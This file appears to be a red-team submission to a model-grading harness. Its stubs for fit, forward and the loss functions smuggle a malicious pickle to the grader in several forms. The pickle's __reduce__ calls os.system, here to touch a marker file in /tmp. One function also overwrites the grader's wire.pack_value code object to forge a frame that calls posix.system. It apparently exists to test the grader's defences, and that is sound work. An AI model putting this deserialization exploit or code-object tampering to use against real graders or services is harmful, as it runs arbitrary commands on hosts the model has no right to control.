# Attack: get the grader to unpickle something: a pickle as a result, as a string, and as the tensor
# payload of a forged frame. Unpickling would run os.system on the grader's host.
import os
import pickle
import sys

MARKER = "/tmp/dd2601-redteam-pickle-pwned"


class Boom:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


PAYLOAD = pickle.dumps(Boom())


class Model:
    config: dict = {}  # what build_model needs (nothing: this model has no settings)

    def forward(self, x):
        return PAYLOAD


def mixture_log_prob(log_pi, mu, log_sigma, y):
    return {"pickle": PAYLOAD.decode("latin-1"), "torch_save": True}


def gaussian_nll(mu, log_sigma, y):
    def forged(value):
        return {"$t": "t0"}, b"\x80\x04\x95\x2e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94."
    sys.modules["wire"].pack_value.__code__ = forged.__code__
    return None


def fit(x, y, *, seed, max_seconds):
    return Model()


def build_model(config):  # the grader rebuilds the model for scoring from its config: nothing else survives fit
    return Model()
